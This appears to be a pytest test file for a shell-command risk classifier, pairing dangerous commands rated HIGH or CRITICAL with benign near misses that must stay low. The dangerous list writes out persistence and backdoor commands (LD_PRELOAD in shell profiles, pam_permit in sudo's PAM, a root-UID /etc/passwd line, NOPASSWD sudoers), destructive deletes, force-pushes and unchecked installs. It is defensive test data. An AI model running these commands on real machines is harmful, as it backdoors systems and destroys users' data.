"""Rules per family, round 2 of issue 11: persistence, git, containers and the cloud.

Each dangerous case was rated below its level before these rules; each benign case is a near
miss that must stay where it is.
"""

from __future__ import annotations

import pytest

from tui.core.safety import RiskLevel, assess

SAFE, MODERATE, HIGH, CRITICAL = (
    RiskLevel.SAFE,
    RiskLevel.MODERATE,
    RiskLevel.HIGH,
    RiskLevel.CRITICAL,
)


def level(command: str) -> RiskLevel:
    return assess(command, preflight=False).level


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        # start-up files: what is put there runs in every new shell
        ("echo 'export LD_PRELOAD=/var/tmp/h.so' >> ~/.zprofile", HIGH),
        ("echo 'alias ssh=\"/opt/.w ssh\"' >> ~/.bashrc", HIGH),
        ("echo 'PROMPT_COMMAND=\"logger x\"' >> ~/.bashrc", HIGH),
        ("echo '. /tmp/.rc' >> ~/.profile", HIGH),
        ("echo '/opt/agent/run &' >> /etc/rc.local", HIGH),
        ("cat notes.sh >> ~/.zshrc", HIGH),
        # files put where the system runs them by itself
        ("cp /tmp/u.service ~/.config/systemd/user/", HIGH),
        ("cp /var/tmp/x.service /etc/systemd/system/", HIGH),
        ("printf '[Desktop Entry]\\nExec=/opt/x\\n' > ~/.config/autostart/x.desktop", HIGH),
        ("install -m 755 ./tool /usr/local/bin/sudo", HIGH),
        ("echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sudo", HIGH),
        ("git config --global core.hooksPath /dev/shm/h", HIGH),
        ("systemctl link /tmp/x.service", HIGH),
        # git: the main branch, whole history
        ("git push -f origin main", CRITICAL),
        ("git push --force --all", CRITICAL),
        ("git push origin +HEAD:master", CRITICAL),
        ("git push origin :main", CRITICAL),
        ("git filter-repo --invert-paths --path secrets.txt", CRITICAL),
        ("git reflog expire --expire=now --all", CRITICAL),
        ("rm -rf .git", CRITICAL),
        ("rm -rf .git/refs", CRITICAL),
        ("git restore --source=HEAD~3 .", HIGH),
        ("git worktree remove --force ../wt", HIGH),
        # containers and clusters
        ("docker run --rm --privileged alpine sh", CRITICAL),
        ("docker run -v /var/run/docker.sock:/var/run/docker.sock alpine", CRITICAL),
        ("podman system reset --force", CRITICAL),
        ("docker system prune -a --volumes -f", CRITICAL),
        ("docker volume rm $(docker volume ls -q)", CRITICAL),
        ("docker rmi -f $(docker images -q)", HIGH),
        ("kubectl delete ns staging", CRITICAL),
        ("kubectl create clusterrolebinding x --clusterrole=cluster-admin --user=bob", CRITICAL),
        ("kubectl drain node-3 --force", HIGH),
        ("helm uninstall web", HIGH),
        ("kind delete cluster --name dev", CRITICAL),
        ("terraform destroy -auto-approve", CRITICAL),
        ("terraform destroy", HIGH),
        # the cloud: data gone without a question, data made public
        ("aws s3 rm s3://b/ --recursive", CRITICAL),
        ("aws rds delete-db-instance --db-instance-identifier db1", CRITICAL),
        ("gcloud sql instances delete db1 --quiet", CRITICAL),
        ("az vm delete -n vm1 -g rg --yes", CRITICAL),
        ("gsutil rm -r gs://b/dir", CRITICAL),
        ("aws s3api put-bucket-acl --bucket b --acl public-read", CRITICAL),
        ("aws iam create-access-key --user-name ci", HIGH),
        ("rm -rf /var/lib/mysql/*", CRITICAL),
        # accounts: administrators, root's password, deleting people's files
        ("useradd -G wheel -p x7 helper", CRITICAL),
        ("useradd -G sudo helper", HIGH),
        ("adduser helper wheel", HIGH),
        ("userdel -r bob", CRITICAL),
        ("deluser --remove-home bob", CRITICAL),
        ("groupdel wheel", CRITICAL),
        ("usermod -aG shadow bob", CRITICAL),
        ("usermod -p '' root", CRITICAL),
        ("printf 'pw\npw\n' | passwd root", CRITICAL),
        ("echo 'root:pw' | chpasswd", CRITICAL),
        ("chage -E 0 bob", HIGH),
        ("dseditgroup -o edit -a bob -t user admin", HIGH),
        ("pw useradd x -u 0 -o", CRITICAL),
        ("echo 'x:x:0:0::/root:/bin/sh' >> /etc/passwd", CRITICAL),
        ("sed -i 's/^%wheel.*/%wheel ALL=(ALL) NOPASSWD: ALL/' /etc/sudoers", CRITICAL),
        ("sed -i 's/PermitRootLogin no/PermitRootLogin yes/' /etc/ssh/sshd_config", HIGH),
        ("echo 'auth sufficient pam_permit.so' >> /etc/pam.d/login", CRITICAL),
        ("chmod u+s /tmp/sh2", CRITICAL),
        # the running machine
        ("kill -KILL 1", CRITICAL),
        ("killall5 -15", CRITICAL),
        ("pkill -KILL -u root", CRITICAL),
        ("killall -9 sshd", HIGH),
        ("reboot -f", CRITICAL),
        ("systemctl mask systemd-logind", CRITICAL),
        ("systemctl stop containerd", HIGH),
        ("systemctl set-default emergency.target", HIGH),
        ("sysctl -w kernel.kptr_restrict=0", HIGH),
        ("echo 0 > /proc/sys/kernel/randomize_va_space", HIGH),
        ("swapoff --all", HIGH),
        ("modprobe -r snd_hda_intel", HIGH),
        ("insmod ./m.ko", HIGH),
        ("date -s '2010-01-01'", HIGH),
        ("timedatectl set-ntp no", HIGH),
        ("echo '/opt/.b/x' | at 03:00", HIGH),
        # deletes: defaults, data folders, personal folders, keys
        ('rm -rf "${DEST:-/}"', CRITICAL),
        ('rm -rf "$OUT"/*', CRITICAL),
        ("rm -rf /srv/backups", CRITICAL),
        ("rm -rf /mnt/usb/*", HIGH),
        ("rm -rf /var/www", CRITICAL),
        ("rm -rf ~/Pictures", CRITICAL),
        ("rm -rf ~/.gnupg", CRITICAL),
        ("rm -rf ~/.config", HIGH),
        ("rm -rf /usr/lib/modules", CRITICAL),
        # overwrites that lose what was there
        ("cat /dev/null > /etc/fstab", CRITICAL),
        ("echo > /etc/sudoers", CRITICAL),
        ("cp ./sh /bin/sh", CRITICAL),
        ("> ~/.ssh/id_rsa", CRITICAL),
        ("echo > ~/app/prod.sqlite3", CRITICAL),
        ("cp /dev/null ~/.vimrc", HIGH),
        ("truncate -s 0 /etc/hosts", HIGH),
        (": > ~/.local/share/keyrings/login.keyring", HIGH),
        ("sed -i '1,$d' todo.txt", HIGH),
        ("dd if=/dev/zero of=thesis.pdf bs=1k count=8 conv=notrunc", HIGH),
        ("shred -u ~/Desktop/*.txt", CRITICAL),
        ("shred -u *.log", HIGH),
        ("find ~/Music -type f -exec truncate -s 0 {} +", CRITICAL),
        # installs: unchecked signatures, as root, look-alike names, new sources
        ("dnf install -y --nogpgcheck ./tool.rpm", CRITICAL),
        ("apt-get install --allow-unauthenticated foo", CRITICAL),
        ("snap install --dangerous ./x.snap", CRITICAL),
        ("sudo pip install https://x.example/t.whl", CRITICAL),
        ("pip install https://x.example/t.whl", HIGH),
        ("curl -O https://x.example/a.rpm && rpm -i a.rpm", CRITICAL),
        ("pip install numpyy", HIGH),
        ("npm install expresss", HIGH),
        ("pip3 install --user reqests", HIGH),
        ("dnf config-manager --add-repo https://x.example/r.repo", HIGH),
        (
            "echo 'deb [trusted=yes] http://x.example/ main' > /etc/apt/sources.list.d/x.list",
            CRITICAL,
        ),
        ("code --install-extension ./thing.vsix", HIGH),
    ],
)
def test_dangerous_commands_reach_their_level(command: str, expected: RiskLevel) -> None:
    assert level(command) >= expected
    if expected is CRITICAL:
        assert level(command) is CRITICAL


@pytest.mark.parametrize(
    ("command", "ceiling"),
    [
        ("echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc", MODERATE),
        ("echo 'alias gs=\"git status\"' >> ~/.zshrc", MODERATE),
        ("echo 'eval \"$(direnv hook bash)\"' >> ~/.bashrc", MODERATE),
        ("sudo cp app.service /etc/systemd/system/", MODERATE),
        ("cp .githooks/pre-commit .git/hooks/ && chmod +x .git/hooks/pre-commit", MODERATE),
        ("git config core.hooksPath .githooks", MODERATE),
        ("git push --force-with-lease origin topic", MODERATE),
        ("git push origin --delete old-topic", MODERATE),
        ("git branch -D old-topic", MODERATE),
        ("git checkout .", MODERATE),
        ("git restore --staged .", MODERATE),
        ("docker rm -f $(docker ps -aq)", MODERATE),
        ('docker run --rm -v "$PWD":/src:ro alpine ls /src', MODERATE),
        ("kubectl delete pod api-1 -n dev", MODERATE),
        ("kubectl auth can-i delete pods", SAFE),
        ("helm list -A", SAFE),
        ("terraform plan -destroy", SAFE),
        ("aws s3 rm s3://b/tmp/one.txt", MODERATE),
        ("gsutil ls gs://b", SAFE),
        ("useradd -m -s /bin/bash newdev", MODERATE),
        ("passwd newdev", MODERATE),
        ("passwd", MODERATE),
        ("sed -i 's/^Port 22/Port 2222/' /etc/ssh/sshd_config", MODERATE),
        ("dscl . -read /Groups/admin GroupMembership", SAFE),
        ("chage -l bob", SAFE),
        ("date +%s", SAFE),
        ("timedatectl set-timezone Europe/Berlin", MODERATE),
        ("sysctl -w net.ipv4.ip_forward=1", MODERATE),
        ("swapoff /swapfile", MODERATE),
        ("shutdown /a", MODERATE),
        ("echo 'notify-send done' | at now + 5 minutes", MODERATE),
        ("systemctl restart nginx", MODERATE),
        ("kill -9 4242", MODERATE),
        ('rm -rf "${BUILD:-./build}"', MODERATE),
        ("rm -rf /tmp/scratch", MODERATE),
        ("rm -rf ~/.cache", MODERATE),
        ("rm ~/Documents/draft.txt", MODERATE),
        ("cp ~/.bashrc ~/.bashrc.bak", MODERATE),
        ("ln -sf ~/dotfiles/.gitconfig ~/.gitconfig", MODERATE),
        ("dd if=/dev/zero of=disk.img bs=1M count=64", MODERATE),
        ("dd if=/dev/zero of=/dev/null bs=1M count=64", MODERATE),
        ("truncate -s 0 app.log", MODERATE),
        ("sed -i '/^#/d' app.conf", MODERATE),
        ("echo '' > ~/.ssh/known_hosts", MODERATE),
        ("pip install requests", MODERATE),
        ("pip install numpy pandas", MODERATE),
        ("npm install react-dom", MODERATE),
        ("sudo apt install nginx", MODERATE),
        ("code --install-extension ms-python.python", MODERATE),
        ("pip install pytest-cov", MODERATE),
    ],
)
def test_near_misses_stay_low(command: str, ceiling: RiskLevel) -> None:
    assert level(command) <= ceiling
